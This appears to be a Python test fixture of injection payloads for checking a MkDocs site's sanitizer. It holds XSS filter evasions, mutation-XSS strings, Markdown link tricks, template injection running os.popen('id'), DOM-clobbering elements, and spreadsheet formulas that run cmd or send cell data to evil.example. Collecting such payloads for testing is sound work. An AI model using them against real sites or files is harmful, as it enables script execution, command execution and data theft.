"""What people have tried to get into pages: texts of notes that would run, load, overlay or forge something.

`alert` is what each of them wants to call, or `evil.example` what it wants to load. They stand on the shoulders of
OWASP's list of filter evasions and of what is known of mutation in DOMPurify, Bleach and Sanitize.
"""

STOCK = r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
## Heading <img src=x onerror=alert(1)>
| a |⏎|---|⏎| <svg onload=alert(1)> |
A word.[^1]⏎⏎[^1]: <img src=x onerror=alert(1)>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
[press](javascript:alert(1))
[press](javascript:alert%281%29){ .md-button }
## Heading { onclick=alert(1) }
Text { onmouseover="alert(1)" }⏎{: onmouseover="alert(1)" }
<svg onload=alert(1)></svg>
<details open ontoggle=alert(1)><summary>a</summary></details>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<object data="https://evil.example/x.svg"></object><embed src="https://evil.example/x.swf">
<link rel=stylesheet href="https://evil.example/x.css">
<style>@import url(https://evil.example/x.css);</style>
"""
"""What ran on a site of MkDocs and Material as they come."""

EVASIONS = r"""
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script/src=data:,alert(1)></script>
<<SCRIPT>alert(1);//\<</SCRIPT>
<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>
<SCRIPT SRC=//evil.example/x.js
<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>
<SCRIPT =">" SRC="https://evil.example/x.js"></SCRIPT>
<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/x.js"></SCRIPT>
<IMG SRC="javascript:alert(1);">
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=`javascript:alert("1")`>
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>"\>
<IMG SRC=# onmouseover="alert(1)">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<IMG onmouseover="alert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<a href="&#0000106avascript:alert(1)">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>
<a href="jav&Tab;ascript:alert(1)">a</a>
<a href="jav&#x0A;ascript:alert(1)">a</a>
<a href=" &#14;  javascript:alert(1)">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="vbscript:alert(1)">a</a>
<a onmouseover="alert(1)">a</a>
<a onmouseover=alert(1)>a
<BODY ONLOAD=alert(1)>
<BODY BACKGROUND="https://evil.example/x.png">
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert(1)>
<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>a</select>
<textarea autofocus onfocus=alert(1)>a</textarea>
<button formaction="javascript:alert(1)">a</button>
<form action="https://evil.example/"><input name=password><button>a</button></form>
<isindex type=image src=1 onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video src=https://evil.example/x.mp4 poster=https://evil.example/x.png autoplay></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>a</marquee>
<STYLE>li {list-style-image: url("https://evil.example/x.png");}</STYLE><UL><LI>a</br>
<DIV STYLE="background-image: url(https://evil.example/x.png)">a</DIV>
<DIV STYLE="width: expression(alert(1));">a</DIV>
<p style="position:fixed;inset:0;background:#fff;z-index:9999">Log in again</p>
<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>
<iframe src=javascript:alert(1)></iframe>
<iframe src=https://evil.example/></iframe>
<TABLE BACKGROUND="https://evil.example/x.png"><TD BACKGROUND="https://evil.example/y.png">a
<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>
<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">
<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></XML>
<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->
<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>
<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x"/></svg>
<svg><set attributeName=href to=javascript:alert(1)><a id=x><text y=20>a</text></a></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<math href="javascript:alert(1)">a</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>
<div popover id=p onbeforetoggle=alert(1)>a</div><button popovertarget=p>a</button>
<xss onfocus=alert(1) tabindex=1 autofocus style=display:block>a</xss>
<img src onerror=/*alert*/alert`1`>
<img/src/onerror=alert(1)//
<a href=https://evil.example/ ping=https://evil.example/ping target=_blank>a</a>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)></slot>
"""
"""Evasions of filters, as OWASP lists them, and younger ones."""

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">
<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><noscript><img alt="</noscript><img src=x onerror=alert(1)>"></desc></svg>
<template><style><a title="</style><img src=x onerror=alert(1)>"></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select>
<p><table><td><svg><desc><table><td></td></table><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>
<?xml <img src=x onerror=alert(1)>?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
</p></div></article></main><script>alert(1)</script>
<a title="`<img src=x onerror=alert(1)>`">a</a>
<br id="x" /x="><img src=x onerror=alert(1)>">
"""
"""What a sanitizer finds harmless, and a browser reads as something else."""

MARKDOWN = r"""
![a](https://evil.example/x.png)
![a][b]⏎⏎[b]: https://evil.example/x.png
[a](data:text/html,<script>alert(1)</script>)
[a](<javascript:alert(1)>)
[a](JaVaScRiPt:alert(1))
[a](java&#115;cript:alert(1))
[a](javascript&colon;alert(1))
[a](&#x6A;avascript:alert(1))
[a](\javascript:alert(1))
[a](vbscript:alert(1))
[a](//evil.example/)
[a](\\evil.example\x)
[a](/\evil.example)
[a](file:///etc/passwd)
[a](blob:https://evil.example/1)
[a][b]⏎⏎[b]: javascript:alert(1) "title"
[a](https://example.org/ "x\" onmouseover=alert(1) y=\"")
[a](https://example.org/ 'x" onmouseover="alert(1)')
[a](https://example.org/" onmouseover="alert(1))
[a](https://example.org/"><img src=x onerror=alert(1)>)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<https://example.org/"onmouseover="alert(1)>
`<img src=x onerror=alert(1)>`
``` "><img src=x onerror=alert(1)>⏎code⏎```
```{ .card #location onclick=alert(1) }⏎code⏎```
~~~ {.search .search__field #Text data-md-toggle=search}⏎code⏎~~~
```html title="</code><img src=x onerror=alert(1)>"⏎code⏎```
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<img src=x onerror=alert(1)\>
*<img src=x* onerror=alert(1)>
[<img src=x onerror=alert(1)>](https://example.org/)
**a<img src=x onerror=alert(1)>b**
> <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
<div markdown="1"><img src=x onerror=alert(1)></div>
*[HTML]: <img src=x onerror=alert(1)>
[TOC]
wzxhzdk:0 klzzwxh:0000
$$ \href{javascript:alert(1)}{a} $$
:material-home:{ onclick=alert(1) }
{{ 7*7 }} {% for a in ().__class__.__base__.__subclasses__() %}{{ a }}{% endfor %} {# a #}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
${7*7} #{7*7} <%= 7*7 %> [[7*7]]
</script><script>alert(1)</script>
]]><script>alert(1)</script><![CDATA[
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
"""
"""What Markdown itself, its extensions and whatever fills templates might make of a text."""

FORGERIES = r"""
<h2 id="location">a</h2><a id="cookie"></a><form id="document"><input name="body"></form>
<img name="currentScript"><img id="getElementById">
<a id="defaultView"></a><a id="defaultView" name="x"></a>
<label for="__search">Press</label><input id="__search" type="checkbox" data-md-toggle="search">
<div class="md-overlay md-search__overlay">a</div>
<a class="card" data-card="figure/bridge-office/spans" href="#">31 spans</a>
<a class="figure" href="https://evil.example/">31 spans</a><span class="as-of">(today)</span>
<sup class="cite">ledger</sup><sup class="cite">nobody</sup>
<div class="picture__wide">how-a-drawdown-happens</div>
<!-- faults -->
<dialog open class="search">a</dialog>
<button class="tool" data-choice="search">a</button>
<div role="alert" aria-label="Log in" tabindex="1">a</div>
<p class="notice" hidden>a</p>
<time class="due" datetime="1999-01-01">a</time>
<a class="skip" href="https://evil.example/">Skip to the text</a>
## Text
## location
## __proto__
"""
"""What would look or act like a part of the site itself."""

FIELDS = r"""
=HYPERLINK("https://evil.example/?"&A1,"press")
+1+cmd|' /C calc'!A0
-1+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
javascript:alert(1)
%0A::error::a
a,title=b::c
constructor
__proto__
"""
"""What does its work from a field or a cell."""


ATTACKS = [
    line.replace("⏎", "\n")
    for group in (STOCK, EVASIONS, MUTATIONS, MARKDOWN, FORGERIES, FIELDS)
    for line in group.strip("\n").split("\n")
]
"""Each stands on a line of its own; `⏎` is the end of a line within it."""
